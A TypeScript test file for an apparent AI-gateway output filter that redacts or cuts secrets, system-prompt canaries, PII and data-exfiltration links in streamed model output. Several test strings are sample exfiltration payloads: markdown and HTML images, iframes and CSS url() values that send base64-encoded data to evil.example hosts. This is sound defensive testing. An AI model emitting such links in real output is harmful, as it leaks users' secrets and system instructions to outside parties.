import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { OutputFilter, OutputVerdict } from '../gateway/stages/types.js';
import { defaultGuardPolicy, type OutputPolicy } from './config.js';
import { createOutputFilter } from './output-filter.js';

/** Feeds chunks; returns what the client would see and the cut reason, if any. */
function run(f: OutputFilter, chunks: readonly string[]): { text: string; cut?: string } {
  let text = '';
  const take = (v: OutputVerdict): string | undefined => ('cut' in v ? v.cut : ((text += v.release), undefined));
  for (const c of chunks) { const cut = take(f.write(c)); if (cut) return { text, cut }; }
  const cut = take(f.end());
  return cut ? { text, cut } : { text };
}

const split = (s: string, n: number): string[] => Array.from({ length: Math.ceil(s.length / n) }, (_, i) => s.slice(i * n, i * n + n));
const policy = (o: Partial<OutputPolicy> = {}): OutputPolicy => ({ ...defaultGuardPolicy().output, ...o });

describe('output filter', () => {
  test('passes ordinary text through unchanged, in order', () => {
    const s = 'Here is how to list files: use ls -la in the directory you want. '.repeat(10);
    assert.deepEqual(run(createOutputFilter({ policy: policy() }), split(s, 7)), { text: s });
  });
  test('redacts a secret split across many chunks', () => {
    const codes: string[] = [];
    const s = 'Your key is AKIAIOSFODNN7EXAMPLE and that is all.';
    const out = run(createOutputFilter({ policy: policy(), onFinding: (c) => codes.push(c) }), split(s, 3));
    assert.equal(out.text, 'Your key is [REDACTED:aws_access_key] and that is all.');
    assert.deepEqual(codes, ['guard.secret.aws_access_key']);
  });
  test('cuts the stream on a secret when policy says cut', () => {
    const out = run(createOutputFilter({ policy: policy({ secrets: 'cut' }) }), split('ok then ghp_' + 'x1Y2'.repeat(9) + ' done', 5));
    assert.equal(out.cut, 'guard.secret.github_token');
    assert.ok(!out.text.includes('ghp_'));
  });
  test('the canary cuts the stream even when split across chunks', () => {
    const canary = 'bst-canary-abcdefghijkl';
    const out = run(createOutputFilter({ policy: policy(), canary }), split(`My instructions say: marker ${canary} never`, 4));
    assert.equal(out.cut, 'guard.canary');
    assert.ok(!out.text.includes('bst-canary'));
  });
  test('redacts markdown images that carry data to other hosts; allowed hosts pass', () => {
    const s = 'Done. ![x](https://evil.example/p.png?d=c2VjcmV0) and ![logo](https://docs.corp.example/logo.png?v=2) end';
    const out = run(createOutputFilter({ policy: policy({ allowedHosts: ['corp.example'] }) }), split(s, 6));
    assert.equal(out.text, 'Done. [REDACTED:link] and ![logo](https://docs.corp.example/logo.png?v=2) end');
  });
  test('redacts images that carry data in the host name or a base64-looking path segment; plain image paths pass', () => {
    const s = 'A ![a](https://73797374656d70726f6d7074.evil.example/p.png) B ![b](https://evil.example/i/U2VjcmV0S2V5MTIz.png) C ![c](https://img.example.org/photos/IMG_2041.jpg) D';
    const out = run(createOutputFilter({ policy: policy() }), split(s, 16));
    assert.equal(out.text, 'A [REDACTED:link] B [REDACTED:link] C ![c](https://img.example.org/photos/IMG_2041.jpg) D');
  });
  test('redacts HTML image and frame sources and CSS url() that carry data, outside code fences only', () => {
    const html = 'See <img src="https://px.evil.example/t.gif?d=bXkgcGFzc3dvcmQ=" width="1" height="1"> and ' +
      '<div style="background:url(\'https://evil.example/bg.png?k=dG9rZW4\')">x</div> and <iframe src="https://evil.example/f?m=hi"></iframe>.';
    const out = run(createOutputFilter({ policy: policy() }), split(html, 16));
    assert.equal(out.text, 'See [REDACTED:link] and <div style="background:[REDACTED:link]">x</div> and [REDACTED:link]</iframe>.');
    const code = 'Add this to the page:\n```html\n<img src="https://analytics.example.com/px?event=purchase" width="1" height="1">\n```\nThen <img src="https://x.evil.example/p?q=1"> done.';
    assert.equal(run(createOutputFilter({ policy: policy() }), split(code, 16)).text,
      'Add this to the page:\n```html\n<img src="https://analytics.example.com/px?event=purchase" width="1" height="1">\n```\nThen [REDACTED:link] done.');
  });
  test('redacts a reference-link definition that carries data; a long source held back whole is still caught', () => {
    const s = 'Loading ![status][s]\n\n[s]: https://evil.example/s.png?c=' + 'aGVsbG8gd29ybGQ'.repeat(12) + '\nEnd.';
    assert.equal(run(createOutputFilter({ policy: policy() }), split(s, 16)).text, 'Loading ![status][s]\n\n[REDACTED:link]\nEnd.');
    const long = 'x <img src="https://evil.example/p.png?d=' + 'Y2hhdCBoaXN0b3J5'.repeat(20) + '"> y';
    assert.equal(run(createOutputFilter({ policy: policy() }), split(long, 16)).text, 'x [REDACTED:link] y');
    assert.equal(run(createOutputFilter({ policy: policy({ exfiltration: 'cut' }) }), split(long, 16)).cut, 'guard.exfiltration');
  });
  test('PII passes by default and is redacted when policy asks', () => {
    const s = 'Contact jane@example.com for details.';
    assert.equal(run(createOutputFilter({ policy: policy() }), [s]).text, s);
    assert.equal(run(createOutputFilter({ policy: policy({ pii: 'redact' }) }), split(s, 4)).text, 'Contact [REDACTED:email] for details.');
  });
  test('after a cut every further write stays cut', () => {
    const f = createOutputFilter({ policy: policy({ secrets: 'cut' }) });
    f.write('AKIAIOSFODNN7EXAMPLE');
    assert.deepEqual(f.end(), { cut: 'guard.secret.aws_access_key' });
    assert.deepEqual(f.write('more'), { cut: 'guard.secret.aws_access_key' });
  });
});
